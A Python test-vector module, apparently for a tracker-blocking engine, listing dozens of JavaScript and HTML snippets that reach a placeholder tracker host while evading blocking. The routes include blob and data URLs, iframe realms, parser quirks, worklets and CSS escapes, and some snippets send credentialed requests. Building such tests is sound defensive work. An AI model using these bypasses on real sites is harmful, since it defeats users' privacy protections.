"""More vectors of the kinds of unlisted.py, found by reading the engine for what it does not look at."""

from __future__ import annotations

from .unlisted import IMPORTS, NAVIGATED, REALMS, SINKS, TREES

_add = "document.body.insertAdjacentHTML('beforeend',"
_named = _add + "'<iframe name=h></iframe>');"
_frame = "var f=document.createElement('iframe');document.body.appendChild(f);"
_load_own = "var f=document.createElement('iframe');f.src='{S}/own.html';document.body.appendChild(f);f.onload=function(){f.onload=null;"
_page_blob = "var u=URL.createObjectURL(new Blob(['<script src={T}/t.js><\\/script>'],{type:'text/html'}));"
_sub = "https://{H}/{P}/t.js"

NAVIGATED_JS = {
    "v-open-blob": _named + _page_blob + "open(u,'h')",
    "v-open-data": _named + "open('data:text/html,<script src={T}/t.js><\\/script>','h')",
    "v-link-blob": _named + _page_blob + "var a=document.createElement('a');a.target='h';a.href=u;document.body.append(a);a.click()",
    "v-link-data": _named + _add + "'<a target=h href=\"data:text/html,<script src={T}/t.js></scr'+'ipt>\">x</a>');document.querySelector('a').click()",
    "v-own-page-blob": _load_own + _page_blob + "window[0].location=u}",
    "v-own-page-data": _load_own + "window[0].location='data:text/html,<script src={T}/t.js><\\/script>'}",
    "v-srcdoc-removed": "var f=document.createElement('iframe');f.srcdoc='x';f.src='{T}/f.html';document.body.append(f);f.removeAttribute('srcdoc')",
    "v-base-link": _frame + "var d=f.contentDocument;d.head.innerHTML='<base href=\"{T}/\">';d.body.innerHTML='<a href=f.html>x</a>';d.querySelector('a').click()",
    "v-document-location": _frame + "f.contentWindow.document.location='{T}/f.html'",
    "v-location-bracket": _frame + "f.contentWindow['location']='{T}/f.html'",
    "v-location-window": _frame + "f.contentWindow.window.location.replace('{T}/f.html')",
    "v-navigation-empty": _frame + "f.contentWindow.navigation.navigate('{T}/f.html')",
    "v-open-self": _frame + "f.contentWindow.open('{T}/f.html','_self')",
    "v-image-button": _named + _add + "'<form target=h><input type=image formaction=\"{T}/f.html\"></form>');document.querySelector('form input').click()",
    "v-form-shadow": "var p=document.createElement('div');document.body.append(p);p.attachShadow({mode:'closed'}).innerHTML='<form action={T}/f.html target=h><button></button></form><iframe name=h></iframe>';"
    + _named + "p=document.createElement('form');p.target='h';p.action='{T}/f.html';p.append(document.createElement('button'));document.body.append(p);p.firstChild.click()",
}  # fmt: skip
NAVIGATED_BODY = {
    "v-parser-javascript": "<iframe src=\"javascript:'<script src={T}/t.js></script>'\"></iframe>",
    "v-parser-data": "<iframe src=\"data:text/html,<script src={T}/t.js></script>\"></iframe>",
    "v-object-data": "<object data=\"data:text/html,<script src={T}/t.js></script>\"></object>",
    "v-srcdoc-form": "<iframe srcdoc=\"<form action='{T}/f.html'></form><script>document.forms[0].submit()</script>\"></iframe>",
    "v-srcdoc-navigation": "<iframe srcdoc=\"<script>navigation.navigate('{T}/f.html')</script>\"></iframe>",
}  # fmt: skip

_based = "var d=f.contentDocument,b=d.createElement('base');b.href='{T}/';d.head.append(b);"
REALMS_JS = {
    "r-base-image": _frame + _based + "d.body.innerHTML='<img src=t.gif>'",
    "r-base-script": _frame + _based + "var s=d.createElement('script');s.src='t.js';d.head.append(s)",
    "r-base-fetch": _frame + _based + "f.contentWindow.fetch('data',{credentials:'include',mode:'no-cors'}).catch(function(){})",
    "r-base-beacon": _frame + _based + "f.contentWindow.navigator.sendBeacon('data','a')",
    "r-base-xhr": _frame + _based + "var x=new f.contentWindow.XMLHttpRequest();x.open('GET','data');x.send()",
    "r-base-write": _frame + "var d=f.contentDocument;d.open();d.write('<base href=\"{T}/\"><script src=t.js><\\/script>');d.close()",
    "r-base-write-image": _frame + "var d=f.contentDocument;d.open();d.write('<base href=\"{T}/\"><img src=t.gif>');d.close()",
    "r-base-style": _frame + _based + "d.body.innerHTML='<p style=\"background:url(t.gif)\">x</p>'",
    "r-base-frame": _frame + _based + "d.body.innerHTML='<iframe src=f.html></iframe>'",
    "r-base-socket": _frame + _based + "new f.contentWindow.EventSource('e.sse')",
    "r-open-own": "var w=open('{S}/own.html');w.onload=function(){w.fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){});setTimeout(function(){w.close()},400)}",
    "r-request": _frame + "fetch(new f.contentWindow.Request('{T}/data',{credentials:'include',mode:'no-cors'})).catch(function(){})",
    "r-request-cache": _frame + "caches.open('x').then(function(c){return c.add(new f.contentWindow.Request('{T}/data'))}).catch(function(){})",
    "r-request-into": _frame + "f.contentWindow.fetch(new Request('{T}/data',{credentials:'include',mode:'no-cors'})).catch(function(){})",
    "r-early-message": "addEventListener('message',function(e){e.source.fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){})});" + _frame
    + "f.src=URL.createObjectURL(new Blob(['<script>parent.postMessage(1,`*`)<\\/script><script src=/slow.js><\\/script>'],{type:'text/html'}))",
    "r-svg-document": "var f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"/>'],{type:'image/svg+xml'}));document.body.append(f);"
    "f.onload=function(){f.getSVGDocument().defaultView.fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){})}",
    "r-frame-function": _frame + "new f.contentWindow.Function(\"fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){})\")()",
    "r-event-view": _load_own + "window[0].document.addEventListener('x',function(e){e.view.fetch('{T}/data',{credentials:'include',mode:'no-cors'}).catch(function(){})});"
    "window[0].document.dispatchEvent(new UIEvent('x',{view:window[0]}))}",
    "r-worker-cache": "new Worker(URL.createObjectURL(new Blob(['caches.open(\"x\").then(c=>c.add(\"{T}/data\")).catch(()=>0)'])))",
    "r-worker-cache-all": "new Worker(URL.createObjectURL(new Blob(['caches.open(\"x\").then(c=>c.addAll([new Request(\"{T}/data\")])).catch(()=>0)'])))",
    "r-worker-font": "new Worker(URL.createObjectURL(new Blob(['new FontFace(\"t\",\"url({T}/t.woff2)\").load().catch(()=>0)'])))",
    "r-worker-request": "new Worker(URL.createObjectURL(new Blob(['fetch(new Request(\"{T}/data\",{mode:\"no-cors\"})).catch(()=>0)'])))",
    "r-worker-stream": "new Worker(URL.createObjectURL(new Blob(['new WebSocketStream(\"{T}/ws\".replace(\"https\",\"wss\"))'])))",
    "r-worker-prototype": "new Worker(URL.createObjectURL(new Blob(['WorkerGlobalScope.prototype.fetch.call(self,\"{T}/data\",{mode:\"no-cors\"}).catch(()=>0)'])))",
}  # fmt: skip
REALMS_BODY = {
    "r-base-srcdoc": "<iframe srcdoc=\"<base href='{T}/'><script src=t.js></script>\"></iframe>",
    "r-base-srcdoc-image": "<iframe srcdoc=\"<base href='{T}/'><img src=t.gif>\"></iframe>",
    "r-srcdoc-comment": "<iframe srcdoc=\"<!--><script src={T}/t.js></script>-->\"></iframe>",
    "r-srcdoc-quote": "<iframe srcdoc=\"<script id=it's src={T}/t.js></script>\"></iframe>",
    "r-srcdoc-cookie": "<iframe srcdoc=\"<!--><script>document.cookie='_ga=1;path=/';if(/_ga=/.test(document.cookie))fetch('{S}/ran')</script>-->\"></iframe>",
}  # fmt: skip

TREES_JS = {
    "t-write-comment": "document.write('<!--><img src={T}/t.gif>-->')",
    "t-write-comment-dash": "document.write('<!---><img src={T}/t.gif>-->')",
    "t-write-comment-bang": "document.write('<!-- --!><img src={T}/t.gif>-->')",
    "t-write-conditional": "document.write('<!--[if !IE]><!--><script src=\"{T}/t.js\"><\\/script><!--<![endif]-->')",
    "t-write-quote": "document.write('<img alt=it\\'s src={T}/t.gif>')",
    "t-write-quote-script": "document.write('<script id=it\\'s src={T}/t.js><\\/script>')",
    "t-write-more": "document.write('<img alt=\"a>b\" src=\"');document.write('{T}/t.gif\">')",
    "t-write-title": "document.write('<title><!--</title><img src={T}/t.gif><!-- -->')",
    "t-root-set-html": "var p=document.createElement('div');document.body.append(p);p.attachShadow({mode:'closed'}).setHTMLUnsafe('<img src={T}/t.gif>')",
    "t-root-set-html-frame": "var p=document.createElement('div');document.body.append(p);p.attachShadow({mode:'open'}).setHTMLUnsafe('<iframe src={T}/f.html></iframe>')",
    "t-exec-comment": "var p=document.createElement('div');p.contentEditable='true';document.body.append(p);p.focus();document.execCommand('insertHTML',false,'<!--><img src={T}/t.gif>-->')",
    "t-move-before": "var p=document.createElement('div'),q=document.createElement('div');document.body.append(p,q);p.innerHTML='<video></video>';p.firstChild.poster='{T}/t.gif';q.moveBefore(p.firstChild,null)",
}  # fmt: skip

IMPORTS_BODY = {
    "o-srcdoc": "<iframe srcdoc=\"<script>import('{T}/t.js')</script>\"></iframe>",
    "o-srcdoc-variable": "<iframe srcdoc=\"<script>var u='{T}/t.js';import(u)</script>\"></iframe>",
    "o-srcdoc-subdomain": f"<iframe srcdoc=\"<script>var u='{_sub}';import(u)</script>\"></iframe>",
    "o-static-comment": "<script type=module>import /* own */ \"{T}/t.js\"</script>",
    "o-dynamic-comment": f"<script>import(/* webpackIgnore: true */ '{_sub}')</script>",
    "o-map-upper": '<script type=IMPORTMAP>{"imports":{"t":"{T}/t.js"}}</script><script>import("t")</script>',
    "o-own-worklet": "<script>CSS.paintWorklet.addModule('{S}/module.js').catch(function(){})</script>",
}  # fmt: skip
IMPORTS_JS = {
    "o-frame-script": _frame + "var s=f.contentDocument.createElement('script');s.text=\"import('{T}/t.js')\";f.contentDocument.head.append(s)",
    "o-frame-module": _frame + "var s=f.contentDocument.createElement('script');s.type='module';s.text=\"import '{T}/t.js'\";f.contentDocument.head.append(s)",
    "o-frame-eval": _frame + "f.contentWindow.eval(\"import('{T}/t.js')\")",
    "o-frame-timer": _frame + "f.contentWindow.setTimeout(\"import('{T}/t.js')\")",
    "o-frame-function": _frame + f"new f.contentWindow.Function(\"import('{_sub}')\")()",
    "o-frame-handler": _frame + "f.contentDocument.body.setAttribute('onclick',\"import('{T}/t.js')\");f.contentDocument.body.click()",
    "o-own-page": _load_own + "window[0].eval(\"import('{T}/t.js')\")}",
    "o-written-frame": _frame + "var d=f.contentDocument;d.open();d.write('<script>import(\"{T}/t.js\")<\\/script>');d.close()",
    "o-worklet-blob": "CSS.paintWorklet.addModule(URL.createObjectURL(new Blob(['import \"{T}/t.js\"'],{type:'text/javascript'}))).catch(function(){})",
    "o-worklet-data": "CSS.paintWorklet.addModule('data:text/javascript,import \"{T}/t.js\"').catch(function(){})",
    "o-audio-worklet": "new OfflineAudioContext(1,9,8e3).audioWorklet.addModule(URL.createObjectURL(new Blob(['import \"{T}/t.js\"'],{type:'text/javascript'}))).catch(function(){})",
}  # fmt: skip

_svg = "document.body.insertAdjacentHTML('beforeend','<svg width=9 height=9>{}</svg>');"
_style = "var s=document.createElement('style');document.head.append(s);"
_url = "url({T}/t.gif)"
_xlink = "'http://www.w3.org/1999/xlink'"
SINKS_JS = {
    "u-xlink-prefix": _svg.replace("{}", "<image width=9 height=9 />") + "document.querySelector('svg image').setAttributeNS(" + _xlink + ",'l:href','{T}/t.gif')",
    "u-xlink-bare": _svg.replace("{}", "<image width=9 height=9 />") + "document.querySelector('svg image').setAttributeNS(" + _xlink + ",'href','{T}/t.gif')",
    "u-xlink-script": _svg.replace("{}", "") + "var s=document.createElementNS('http://www.w3.org/2000/svg','script');s.setAttributeNS(" + _xlink + ",'l:href','{T}/t.js');document.querySelector('svg').append(s)",
    "u-xlink-parsed": "var d=new DOMParser().parseFromString('<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:l=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\"><image width=\"9\" height=\"9\" l:href=\"{T}/t.gif\"/></svg>','image/svg+xml');document.body.append(d.documentElement)",
    "u-cursor": _svg.replace("{}", "<rect width=9 height=9 cursor=\"url({T}/t.gif),auto\" />"),
    "u-cursor-set": _svg.replace("{}", "<rect width=9 height=9 />") + "document.querySelector('svg rect').setAttribute('cursor','url({T}/t.gif),auto')",
    "u-marker": _svg.replace("{}", "<path d=M0,0L9,9 marker-start=\"url({T}/t.svg#a)\" />"),
    "u-fill": _svg.replace("{}", "<rect width=9 height=9 fill=\"url({T}/t.svg#a)\" />"),
    "u-stroke": _svg.replace("{}", "<rect width=9 height=9 stroke=\"url({T}/t.svg#a)\" />"),
    "u-smil-mask": _svg.replace("{}", "<rect width=9 height=9><set attributeName=mask to=\"url({T}/t.svg#a)\" /></rect>"),
    "u-smil-clip": _svg.replace("{}", "<rect width=9 height=9><set attributeName=clip-path to=\"url({T}/t.svg#a)\" /></rect>"),
    "u-smil-to-late": _svg.replace("{}", "<rect width=9 height=9><set attributeName=mask /></rect>") + "document.querySelector('svg set').setAttribute('to','url({T}/t.svg#a)')",
    "u-set-space": _style + "s.textContent='h1{background:image-set(\" {T}/t.gif\" 1x)}'",
    "u-set-http": _style + "s.textContent='h1{background:image-set(\"http:/tracker.shop.test/{P}/t.gif\" 1x)}'",
    "u-set-line": _style + "s.textContent='h1{background:image-set(\"\\\\\\n{T}/t.gif\" 1x)}'",
    "u-set-colon": _style + "s.textContent='h1{background:image-set(\"https\\\\3a //tracker.shop.test/{P}/t.gif\" 1x)}'",
    "u-escaped-slash": _style + "s.textContent='h1{background:url(\"https:\\\\2f\\\\2ftracker.shop.test/{P}/t.gif\")}'",
    "u-escaped-dot": _style + "s.textContent='h1{background:url(\"https://tracker\\\\2e shop.test/{P}/t.gif\")}'",
    "u-escaped-newline": _style + "s.textContent='h1{background:url(\"https://trac\\\\a ker.shop.test/{P}/t.gif\")}'",
    "u-import-blob": _style + "s.textContent='@import url('+URL.createObjectURL(new Blob(['@import \"{T}/t.css\"'],{type:'text/css'}))+')'",
    "u-import-fragment": _style + "var f=document.createDocumentFragment();f.append('@import \"{T}/t.css\"');s.append(f)",
    "u-script-fragment": "var s=document.createElement('script'),f=document.createDocumentFragment();document.head.append(s);f.append(\"window.__AGENT__=1;document.cookie='_ga=1;path=/';fetch('{S}/ran')\");s.appendChild(f)",
    "u-import-html": _style + "s.innerHTML='/*<b>*/@import url({T}/t.css)'",
    "u-import-range-insert": _style + "s.append('x');var g=document.createRange();g.selectNodeContents(s);g.deleteContents();g.insertNode(document.createTextNode('@import \"{T}/t.css\"'))",
    "u-feimage": _svg.replace("{}", "<filter id=a><feImage href=\"{T}/t.gif\" /></filter><rect width=9 height=9 filter=\"url(#a)\" />"),
    "u-import-layer": _style + "s.textContent='@import url({T}/t.css) layer(a) supports(display:grid) all'",
    "u-import-quote": _style + "s.textContent='/* don\\'t */@import url({T}/t.css)'",
    "u-import-rule": _style + "s.sheet.insertRule('@import \"{T}/t.css\"')",
    "u-font-rule": _style + "s.textContent='@font-face{font-family:t;src:local(x)}h1{font-family:t}';s.sheet.cssRules[0].style.src='url({T}/t.woff2)';document.body.offsetWidth",
    "u-font-rule-set": _style + "s.textContent='@font-face{font-family:t;src:local(x)}h1{font-family:t}';s.sheet.cssRules[0].style.setProperty('src','url({T}/t.woff2)');document.body.offsetWidth",
    "u-style-map-parsed": "document.body.attributeStyleMap.set('background-image',CSSStyleValue.parse('background-image','" + _url + "'))",
    "u-style-map-more": "document.body.attributeStyleMap.set('background-image','none','" + _url + "')",
    "u-style-map-append": "document.body.attributeStyleMap.append('background-image','none','" + _url + "')",
    "u-style-map-unparsed": "document.body.attributeStyleMap.set('background',new CSSUnparsedValue(['" + _url + "']))",
    "u-content": _style + "s.textContent='h1::before{content:" + _url + "}'",
    "u-cursor-style": _style + "s.textContent='body{cursor:" + _url + ",auto}'",
    "u-shape": _style + "s.textContent='h1{float:left;shape-outside:" + _url + "}'",
    "u-border": _style + "s.textContent='h1{border:3px solid;border-image:" + _url + " 1}'",
    "u-cross-fade": _style + "s.textContent='h1{background:-webkit-cross-fade(" + _url + ",none,50%)}'",
    "u-variable": _style + "s.textContent=':root{--a:" + _url + "}h1{background:var(--a)}'",
    "u-html-style": "document.documentElement.setAttribute('style','background:" + _url + "')",
    "u-background": _add + "'<table background={T}/t.gif><tr><td>x</table>')",
    "u-body-background": "document.body.background='{T}/t.gif'",
    "u-cell-background": _add + "'<table><tr><td>x</table>');document.querySelector('td').setAttribute('background','{T}/t.gif')",
    "u-link-disabled": "var l=document.createElement('link');l.rel='stylesheet';l.disabled=true;l.href='{T}/t.css';document.head.append(l);l.disabled=false",
    "u-link-images": "var l=document.createElement('link');l.rel='preload';l.as='image';l.imageSrcset='{T}/t.gif 1x';document.head.append(l)",
    "u-link-as": "var l=document.createElement('link');l.rel='preload';l.href='{T}/t.gif';document.head.append(l);l.as='image'",
    "u-rtc-set": "var c=new RTCPeerConnection();c.setConfiguration({iceServers:[{urls:'turns:{H}:443?transport=tcp',username:'a',credential:'b'}]});"
    "c.createDataChannel('x');c.createOffer().then(function(o){c.setLocalDescription(o)})",
    "u-beacon-hide": "addEventListener('pagehide',function(){navigator.sendBeacon('{T}/data','a')});dispatchEvent(new PageTransitionEvent('pagehide'))",
    "u-speculation-script": "var s=document.createElement('script');s.type='speculationrules';s.text='{\"prefetch\":[{\"urls\":[\"{T}/f.html\"]}]}'.replace(/\\//g,'\\\\/');document.head.append(s)",
}  # fmt: skip
SINKS_BODY = {
    "u-markup-xlink": "<svg width=9 height=9><image width=9 height=9 xlink:href='{T}/t.gif' /></svg>",
    "u-markup-cursor": "<svg width=9 height=9><rect width=9 height=9 cursor='url({T}/t.gif),auto' /></svg>",
    "u-markup-prefetch": "<link rel=prefetch href={T}/t.js>",
    "u-markup-preload-image": "<link rel=preload as=image href={T}/t.gif>",
    "u-markup-dictionary": "<link rel=compression-dictionary href={T}/t.dat>",
    "u-markup-feimage": "<svg width=9 height=9><filter id=a><feImage href='{T}/t.gif' /></filter><rect width=9 height=9 filter='url(#a)' /></svg>",
    "u-markup-fill": "<svg width=9 height=9><rect width=9 height=9 fill='url({T}/t.svg#a)' /></svg>",
    "u-markup-background": "<table background={T}/t.gif><tr><td>x</table>",
    "u-own-sheet": "<link rel=stylesheet href={S}/own.css>",
    "u-own-import": "<link rel=stylesheet href={S}/import.css>",
}  # fmt: skip

OVERLOOKED: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    NAVIGATED: (NAVIGATED_BODY, NAVIGATED_JS),
    REALMS: (REALMS_BODY, REALMS_JS),
    TREES: ({}, TREES_JS),
    IMPORTS: (IMPORTS_BODY, IMPORTS_JS),
    SINKS: (SINKS_BODY, SINKS_JS),
}
